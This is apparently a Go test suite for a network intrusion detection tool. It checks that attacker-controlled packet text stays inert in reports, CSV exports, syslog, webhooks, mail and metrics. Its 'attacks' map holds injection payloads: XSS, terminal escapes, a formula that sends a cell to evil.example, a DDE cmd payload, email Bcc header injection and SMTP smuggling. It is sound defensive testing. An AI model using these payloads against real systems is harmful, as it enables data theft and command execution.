//go:build linux

package main

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime"
	"mime/quotedprintable"
	"net"
	"net/http"
	"net/http/httptest"
	netmail "net/mail"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"firestorm/internal/config"
	"firestorm/internal/event"
	"firestorm/internal/evidence"
	"firestorm/internal/finding"
	"firestorm/internal/output"
	"firestorm/internal/packet"
	"firestorm/internal/report"
	"firestorm/internal/sensor"
	"firestorm/internal/store"
)

// attacks are texts that a packet can carry, each meant for one of the places that findings go to.
var attacks = map[string]string{
	"terminal":    "a\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f",
	"bidi":        "a\u202egnp.exe\u2066\u200b\ufeff\u2028b",
	"html":        `"><script>alert(1)</script><img src=x onerror=alert(1)>&amp;'`,
	"log line":    "a\r\n<27>1 2026-01-01T00:00:00Z gw firestorm - forged - forged\nfirestorm: forged",
	"formula":     `=HYPERLINK("http://evil.example/?"&A1)`,
	"formula 2":   "+1+cmd|' /C calc'!A0",
	"formula 3":   "-2+3",
	"formula 4":   "@SUM(1+1)*cmd",
	"formula tab": "\t=1+1",
	"syslog":      `"] forged [x@1 y="`,
	"json":        `","severity":"info"}` + "\n" + `{"id":"FS-forged`,
	"markdown":    "[x](javascript:alert(1)) ![y](http://evil.example/z) | **b** `c` <b>\n# forged\n- @you",
	"header":      "a\r\nBcc: victim@example.com\r\n\r\nforged",
	"header 2":    "=?utf-8?Q?=0D=0ABcc:_victim@example.com?=",
	"smtp":        "a\r\n.\r\nMAIL FROM:<x@example.com>",
	"label":       "x\"} 1\nfirestorm_forged 1\n#",
	"bytes":       "a\xff\xfe\x00b\xc3",
}

func attackFinding(s string) *finding.Finding {
	at := packet.Ref{Frame: 1, Time: 1e18}
	name := finding.Subject{Role: s, Name: s, Port: 80}
	return &finding.Finding{ID: "FS-aaaaaa", Code: &finding.Code{ID: "arp-scan", Title: "t", Kind: finding.Attack}, Severity: finding.High, Confidence: finding.Likely, Revision: 1, Count: 2,
		Title: s, Summary: s, Why: s, Impact: s, Facts: []finding.Fact{{Text: s, Refs: []packet.Ref{at}}, {Text: s}}, RuledOut: []finding.Alternative{{ID: "a", Name: s, Text: s}}, CouldBe: []finding.Alternative{{ID: "b", Name: s, Text: s}},
		WrongIf: s, Remedy: []finding.Step{{Where: finding.AtServer, Text: s, Run: []finding.Command{{On: s, Line: s}}}}, Check: s, CheckNote: s, References: []string{s}, Subjects: []finding.Subject{name},
		Evidence: []finding.Proof{{Ref: at, Role: s}}, First: at, Last: at, Explains: []finding.Explained{{Code: "x", Count: 1, Text: s}}}
}

// calm reports what is not text that a terminal and a log can show: a control character beside those of between, or bytes that
// are no UTF-8.
func calm(text, between string) string {
	if !utf8.ValidString(text) {
		return "bytes that are no text"
	}
	for _, r := range text {
		if event.Unprintable(r) && !strings.ContainsRune(between, r) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

// TestPacketTextIsInert: whatever text a packet has, in each output it is text and nothing else.
func TestPacketTextIsInert(t *testing.T) {
	records := regexp.MustCompile(`(?m)^<\d+>1 `)
	for name, s := range attacks {
		t.Run(name, func(t *testing.T) {
			f := attackFinding(s)
			rep := &report.Report{Files: []report.File{{Name: "in.pcap", Packets: 1, From: 1e18, To: 2e18}}, Findings: []*finding.Finding{f}}
			ro := report.Options{Verbose: true}

			var text, html, md bytes.Buffer
			if err := report.WriteText(&text, rep, ro); err != nil || calm(text.String(), "\n") != "" {
				t.Errorf("text: %v %s", err, calm(text.String(), "\n"))
			}
			if strings.Contains(text.String(), "\nfirestorm: forged") || strings.Contains(text.String(), "\n# forged") {
				t.Error("text: a forged line")
			}
			if err := report.WriteHTML(&html, rep, ro); err != nil || calm(html.String(), "\n\t") != "" || strings.Contains(html.String(), "<script>alert") || strings.Contains(html.String(), "<img src=x") {
				t.Errorf("html: %v %s", err, calm(html.String(), "\n\t"))
			}
			if err := report.WriteMarkdown(&md, rep, ro); err != nil || calm(md.String(), "\n") != "" || strings.Contains(md.String(), "](javascript:") && !strings.Contains(md.String(), `\]`) || strings.Contains(md.String(), "\n# forged") {
				t.Errorf("markdown: %v %s", err, calm(md.String(), "\n"))
			}

			// JSON lines: one object, and its own id.
			line := report.AppendFinding(nil, rep, f)
			var o struct{ ID, Severity string }
			if err := json.Unmarshal(line, &o); err != nil || o.ID != "FS-aaaaaa" || o.Severity != "high" || bytes.ContainsAny(line, "\n\x1b\x00") {
				t.Errorf("json: %v %s", err, line)
			}
			// EVE.
			var eve bytes.Buffer
			out, err := outputDef("eve").New(output.Setup{Out: &eve})
			if err != nil {
				t.Fatal(err)
			}
			_ = out.Finding(f)
			_ = out.Flush()
			var v map[string]any
			if err := json.Unmarshal(eve.Bytes(), &v); err != nil || v["event_type"] != "alert" || bytes.Count(eve.Bytes(), []byte{'\n'}) != 1 || bytes.ContainsAny(eve.Bytes(), "\x1b\x00") {
				t.Errorf("eve: %v %s", err, eve.Bytes())
			}
			// CSV: a spreadsheet sees text.
			if c := csvCell(s); calm(c, "") != "" || c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
				t.Errorf("csv: %q", c)
			}
			// pcapng: comments.
			var ng bytes.Buffer
			live := evidence.NewLive(&ng, evidence.LiveOptions{Visible: event.Visible, Name: func(uint16) string { return s }})
			live.Finding(f)
			live.Packets([]packet.Packet{{Data: make([]byte, 60), Time: 1, Frame: 1, Link: packet.LinkEthernet}})
			if err := live.Close(); err != nil {
				t.Fatal(err)
			}
			_, comment, ok := bytes.Cut(ng.Bytes(), []byte("FS arp-scan high likely: "))
			if comment, _, _ = bytes.Cut(comment, []byte(" (frames 1)")); !ok || calm(string(comment), "") != "" {
				t.Errorf("pcapng: %q", comment)
			}
			testSent(t, f, records)
		})
	}
}

// testSent sends f to a log server, an address on the web, a mail server and the page of numbers, and looks at what arrives.
func testSent(t *testing.T, f *finding.Finding, records *regexp.Regexp) {
	logs, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer logs.Close()
	posted := make(chan []byte, 1)
	web := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		posted <- b
	}))
	defer web.Close()
	post, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer post.Close()
	mails := make(chan string, 1)
	go func() {
		if c, err := post.Accept(); err == nil {
			mails <- takeMail(c)
		}
	}()
	a := &app{stderr: io.Discard, getenv: func(string) string { return "" }}
	opt := &sensor.Options{}
	x, err := a.farOutputs(&farFlags{syslog: []string{"udp:" + logs.LocalAddr().String()}, webhook: []string{web.URL}, metrics: "127.0.0.1:0",
		mail: config.Mail{Server: post.Addr().String(), TLS: "none", From: "s@example.net", To: []string{"a@example.net"}, AtOnce: "high", PerHour: 6}}, &readOptions{}, "eth0", opt)
	if err != nil {
		t.Fatal(err)
	}
	defer x.end(nil, nil)
	x.news(f)
	b := make([]byte, 64<<10)
	_ = logs.SetReadDeadline(time.Now().Add(5 * time.Second))
	n, _, err := logs.ReadFrom(b)
	msg := string(b[:n])
	if err != nil || calm(msg, "") != "" || len(records.FindAllString(msg, -1)) != 1 || strings.Contains(msg, `"] forged [`) && !strings.Contains(msg, `\"\] forged [`) {
		if head, _, _ := strings.Cut(msg, " forged"); !strings.Contains(head, "] ") { // behind the structured data it is the message's own text
			t.Errorf("syslog: %v %q", err, msg)
		}
	}
	select {
	case p := <-posted:
		var o struct{ ID string }
		if err := json.Unmarshal(p, &o); err != nil || o.ID != "FS-aaaaaa" || bytes.ContainsAny(p, "\n\x1b\x00") {
			t.Errorf("webhook: %v %s", err, p)
		}
	case <-time.After(5 * time.Second):
		t.Error("webhook: nothing came")
	}
	select {
	case raw := <-mails:
		m, err := netmail.ReadMessage(strings.NewReader(raw))
		if err != nil {
			t.Fatalf("mail: %v %q", err, raw)
		}
		body, err := io.ReadAll(quotedprintable.NewReader(m.Body))
		if err != nil || m.Header.Get("Bcc") != "" || len(m.Header) != 12 || calm(string(body), "\r\n") != "" || !strings.Contains(string(body), "FS-aaaaaa") ||
			strings.ContainsAny(decoded(m.Header.Get("Subject")), "\r\n") {
			t.Errorf("mail: %v %v %q", err, m.Header, body)
		}
	case <-time.After(5 * time.Second):
		t.Error("mail: nothing came")
	}
	res, err := http.Get("http://" + x.meter.at.String() + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	page, err := io.ReadAll(res.Body)
	if err != nil || calm(string(page), "\n") != "" || bytes.Contains(page, []byte("\nfirestorm_forged")) {
		t.Errorf("metrics: %v", err)
	}
}

// decoded is a header as a mail program shows it.
func decoded(s string) string {
	if d, err := new(mime.WordDecoder).DecodeHeader(s); err == nil {
		return d
	}
	return s
}

// takeMail is the other side of one mail. It returns "" when more than one is begun.
func takeMail(c net.Conn) string {
	defer c.Close()
	r := bufio.NewReader(c)
	fmt.Fprint(c, "220 here\r\n")
	var mail strings.Builder
	begun := 0
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return ""
		}
		switch verb, _, _ := strings.Cut(strings.TrimSpace(line), " "); verb {
		case "MAIL":
			begun++
			fmt.Fprint(c, "250 ok\r\n")
		case "DATA":
			fmt.Fprint(c, "354 go\r\n")
			for {
				line, err := r.ReadString('\n')
				if err != nil {
					return ""
				}
				if line == ".\r\n" {
					break
				}
				mail.WriteString(strings.TrimPrefix(line, "."))
			}
			fmt.Fprint(c, "250 taken\r\n")
		case "QUIT":
			fmt.Fprint(c, "221 bye\r\n")
			if begun != 1 {
				return ""
			}
			return mail.String()
		default:
			fmt.Fprint(c, "250 ok\r\n")
		}
	}
}

// TestExportIsInert: what findings export writes for a spreadsheet has as many rows and cells as there are, and no formula.
func TestExportIsInert(t *testing.T) {
	dir := t.TempDir()
	s, err := store.Open(dir, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var rs []*store.Record
	for name, text := range attacks {
		f := attackFinding(text)
		f.ID = "FS-" + strings.ReplaceAll(name, " ", "-")
		rs = append(rs, &store.Record{Finding: f, Files: []string{text}, Begin: 1e18, Now: 2e18})
	}
	if _, err := s.Put(rs); err != nil {
		t.Fatal(err)
	}
	s.Close()
	if r := runApp(nil, "findings", "list", "--store", dir); r.code != 0 || calm(r.stdout, "\n") != "" || strings.Count(r.stdout, "\n") != len(attacks) {
		t.Errorf("list: %d, %d lines for %d findings, %s", r.code, strings.Count(r.stdout, "\n"), len(attacks), calm(r.stdout, "\n"))
	}
	for _, format := range []string{"csv", "json", "md"} {
		r := runApp(nil, "findings", "export", "--format", format, "--store", dir)
		if r.code != 0 || calm(r.stdout, "\n") != "" {
			t.Fatalf("%s: %d %s %s", format, r.code, r.stderr, calm(r.stdout, "\n"))
		}
		if format != "csv" {
			continue
		}
		rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
		if err != nil || len(rows) != len(attacks)+1 {
			t.Fatalf("%v, %d rows", err, len(rows))
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%q", cell)
				}
			}
		}
	}
}
